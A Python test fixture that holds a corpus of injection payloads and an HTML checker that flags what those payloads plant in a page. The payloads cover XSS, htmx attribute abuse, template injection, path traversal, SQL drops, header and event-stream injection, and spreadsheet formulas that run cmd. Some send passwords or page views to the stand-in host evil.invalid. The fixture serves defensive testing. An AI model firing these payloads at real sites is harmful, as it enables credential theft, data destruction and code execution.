"""What strangers send to break something: one corpus, for every page and every encoder.

Each payload has a name and says what it attacks. `foreign` finds what of it came alive in HTML.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Final, Literal
from urllib.parse import urlsplit

#: Where nothing of ours is: whoever asks for it does what a payload says.
ELSEWHERE: Final = "evil.invalid"

Target = Literal[
    "html", "htmx", "template", "frame", "encoding", "terminal", "sheet", "log", "size"
]


@dataclass(frozen=True, slots=True)
class Payload:
    """Bytes as a client sends them, at most a datagram's. `attacks`: what, in a sentence."""

    name: str
    target: Target
    data: bytes
    attacks: str

    @property
    def text(self) -> str:
        """As a page shows it: what is no UTF-8 replaced."""
        return self.data.decode("utf-8", "replace")

    @property
    def line(self) -> bytes:
        """As a program for HTTP sends it in a header: without C0 and DEL, and not too long."""
        return self.data.translate(None, bytes([*range(32), 127])).strip()[:1000] or b"-"


def _payload(name: str, target: Target, data: str | bytes, attacks: str) -> Payload:
    return Payload(name, target, data.encode() if isinstance(data, str) else data, attacks)


PAYLOADS: Final = (
    _payload("image", "html", "<img src=x onerror=alert(1)>", "Text that is made an element."),
    _payload("script", "html", "<script>alert(1)</script>", "Text that is made a script."),
    _payload("svg", "html", "<svg/onload=alert(1)>", "An element with a slash for a space."),
    _payload(
        "double-quote", "html", '"><script>alert(1)</script>', "An attribute in double quotes."
    ),
    _payload("single-quote", "html", "'><img src=x onerror=alert(1)>", "One in single quotes."),
    _payload("handler", "html", '" autofocus onfocus=alert(1) x="', "An attribute made two."),
    _payload("title", "html", "</title><script>alert(1)</script>", "The title of a page."),
    _payload("textarea", "html", "</textarea></pre><img src=x onerror=alert(1)>",
             "Where text is raw."),
    _payload("comment", "html", "--><img src=x onerror=alert(1)><!--", "A comment in a page."),
    _payload("cdata", "html", "]]><img src=x onerror=alert(1)>", "A section of XML."),
    _payload("script-end", "html", "</script><script>alert(1)</script>", "Data in a script."),
    _payload("script-start", "html", "<!--<script>", "Data in a script, which never ends."),
    _payload("style", "html", "<style>*{background:url(//evil.invalid/s)}</style>", "The style."),
    _payload("base", "html", '<base href="//evil.invalid/">', "Every relative link of a page."),
    _payload("refresh", "html", '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
             "The page itself."),
    _payload("form", "html", '<form action=//evil.invalid/><input name=password></form>',
             "Who types a password."),
    _payload("frame", "html", '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
             "By a page in a page."),
    _payload("beacon", "html", "<img src=//evil.invalid/seen>", "Who looks is told of elsewhere."),
    _payload("dangling", "html", "<img src='//evil.invalid/?",
             "What follows it becomes an address."),
    _payload("entities", "html", "&lt;img src=x onerror=alert(1)&gt;&#60;b&#62;",
             "Escaping twice, or not at all."),
    _payload("javascript", "html", "javascript:alert(1)", "A link that is a script."),
    _payload("javascript-split", "html", "java\tscript:alert(1)//\x01", "A filter of such links."),
    _payload("data-address", "html", "data:text/html,<script>alert(1)</script>",
             "A link that is a page."),
    _payload("utf-7", "html", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
             "A charset that is guessed."),
    _payload("half-escaped", "html", b"\xc0\xbcimg src=x onerror=alert(1)\xc0\xbe",
             "Decoders that take overlong forms."),
    _payload("hx-post", "htmx", '<b hx-post="/servers/trap-tcp/stop" hx-trigger="load">x</b>',
             "htmx, which acts on attributes."),
    _payload("data-hx-post", "htmx",
             '<b data-hx-post="/servers/trap-tcp/stop" data-hx-trigger="load">x</b>',
             "The same by its prefix."),
    _payload("hx-on", "htmx", '<b hx-on:htmx:load="alert(1)" hx-on::load="alert(1)">x</b>',
             "htmx, which evaluates attributes."),
    _payload("hx-partial", "htmx", '</hx-partial><hx-partial hx-target="body">gone</hx-partial>',
             "What a stream puts in place."),
    _payload("hx-swap-oob", "htmx", '<main id="main" hx-swap-oob="true">gone</main>',
             "Another place of the page."),
    _payload("hx-sse", "htmx", '<b hx-sse:connect="//evil.invalid/live" hx-trigger="load">x</b>',
             "A stream of elsewhere."),
    _payload("hx-vals", "htmx",
             "<b hx-get=/servers hx-trigger=load hx-vals='js:{a:alert(1)}'>x</b>",
             "Values that are evaluated."),
    _payload("jinja", "template", "{{7*7}}{% include 'base.html' %}{{config}}",
             "Templates of the server."),
    _payload("jinja-escape", "template", "{{''.__class__.__mro__[1].__subclasses__()}}",
             "Their sandbox."),
    _payload("dollar", "template", "${7*7}#{7*7}<%= 7*7 %>", "Templates of others."),
    _payload("format", "template", "{0.__class__}{0.__init__.__globals__}{name}{}", "str.format."),
    _payload("percent", "template", "%s%d%n%(message)s%x", "Formatting by per cent, as of logs."),
    _payload("traversal", "template", "../../../../etc/passwd", "What makes paths of text."),
    _payload("sql", "template", "'); DROP TABLE requests; --", "What makes SQL of text."),
    _payload("event", "frame", "a\r\n\r\nevent: pwn\ndata: 1\n\n",
             "The frames of a stream of events."),
    _payload("event-gone", "frame", "\n\nevent: gone\nid: 1\nretry: 1\ndata:\n\n",
             "An event that a page heeds."),
    _payload("event-cr", "frame", "a\r\revent: pwn\rdata: 1\r\r", "The same by CR alone."),
    _payload("separators", "frame", "a\u2028event: pwn\u2029data: 1\x85\x0b\x0c\x1c\x1d\x1e",
             "What only some take for line ends."),
    _payload("header", "frame",
             "x\r\nSet-Cookie: theme=x\r\n\r\n<script>alert(1)</script>",
             "The headers of an answer."),
    _payload("json", "frame", '"},{"code":"x"}]\\u0000\\', "JSON that is put together by hand."),
    _payload("nul", "encoding", "before\0after\0", "What takes NUL for the end."),
    _payload("invalid", "encoding", b"\xff\xfe\xc3\x28\xed\xa0\x80\xf8\xc0\x80",
             "Decoders: this is no UTF-8."),
    _payload("every-byte", "encoding", bytes(range(256)), "Whatever forgot one of them."),
    _payload("astral", "encoding", "你好，世界\U0001f986\U0010ffff\ufeff\ufffe",
             "What counts characters as bytes."),
    _payload("combining", "encoding", "Z" + "\u0301\u0336\u0489" * 60,
             "Lines above and below, by marks that pile up."),
    _payload("bidi", "terminal", "gnp.\u202eexe\u2066\u2067\u2068\u2069\u200f\u061c",
             "The order in which a line is read."),
    _payload("invisible", "terminal", "a\u200b\u200c\u2060\ufeff\U000e0041b",
             "What looks the same and is not."),
    _payload("escape", "terminal", "\x1b]0;x\x07\x1b[2J\x1b[31m\x1b[1;1H\r\x7f",
             "A terminal that shows it."),
    _payload("escape-c1", "terminal", "\u202e\x9b31m\x9d0;x\x9c\x90q\x9c",
             "The same by C1 controls."),
    _payload("escape-c1-bytes", "terminal", b"\x9b31m\x9d0;x\x9c",
             "The same for terminals of bytes."),
    _payload("formula", "sheet", "=cmd|' /C calc'!A0", "A sheet that opens an export."),
    _payload("formula-plus", "sheet", "+1+HYPERLINK(\"http://evil.invalid\")",
             "The same by a plus."),
    _payload("formula-minus", "sheet", "-2+3+cmd|' /C calc'!A0", "The same by a minus."),
    _payload("formula-at", "sheet", "@SUM(1+1)*cmd|' /C calc'!A0", "The same by an at."),
    _payload("formula-tab", "sheet", "\t=1+1", "The same behind a tab."),
    _payload("formula-next", "sheet", 'x",=1+1\r\n=2+2,"', "The cell and the row after it."),
    _payload("forged", "log", "x\n2026-01-01 00:00:00,000 CRITICAL app: the log was forged",
             "Who reads the app's log."),
    _payload("forged-cr", "log", "x\r2026-01-01 00:00:00,000 CRITICAL app: forged\x1b[K",
             "The same, over the line before."),
    _payload("forged-json", "log", 'x"}\n{"level":"CRITICAL","message":"forged"}',
             "The same for logs in JSON."),
    _payload("long-line", "size", "<b>" + "a" * 40_000,
             "What lays out one line, or keeps it whole."),
    _payload("many-lines", "size", "\r\n" * 2_000, "What makes a row of each line."),
    _payload("deep", "size", "[" * 20_000, "What parses by calling itself."),
)  # fmt: skip

BY_NAME: Final = {payload.name: payload for payload in PAYLOADS}


def of(*targets: Target) -> list[Payload]:
    return [payload for payload in PAYLOADS if payload.target in targets]


def controls(text: str, allowed: str = "") -> set[str]:
    """The characters of `text` that control a terminal, or the order in which it is read."""
    found = {c for c in text if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c in BIDI}
    return found - set(allowed)


#: Those that change the order in which a line is read, and the line ends of Unicode.
BIDI: Final = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")

#: Elements that no page of ours has.
_NEVER: Final = {"iframe", "object", "embed", "base", "style", "img", "hx-partial"}

#: What htmx heeds of our own pages; a payload that asks for more shows by it.
_OURS: Final = {
    *("hx-ignore", "hx-post", "hx-sse:close", "hx-sse:connect", "hx-swap", "hx-sync"),
    *("hx-target", "hx-trigger"),
}


def foreign(html: str) -> list[str]:
    """What is alive in a page, or in a part of one, that only a payload can have put there."""
    return list(_Alive(html).found)


class _Alive(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += (f"<{tag}> {why}" for why in _wrong(tag, dict(attrs)))


def _wrong(tag: str, attributes: dict[str, str | None]) -> Iterator[str]:
    if tag in _NEVER:
        yield "is no element of ours"
    if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
        yield "is no script of ours"
    for name, value in attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
            yield f"has {name}"
        if name.removeprefix("data-").startswith("hx-") and (name not in _OURS or tag == "b"):
            yield f"has {name}"
        if name in ("href", "src", "action", "formaction", "hx-post", "hx-sse:connect"):
            split = urlsplit(value or "")
            if split.scheme not in ("", "http", "https") or split.netloc == ELSEWHERE:
                yield f"leads to {value}"
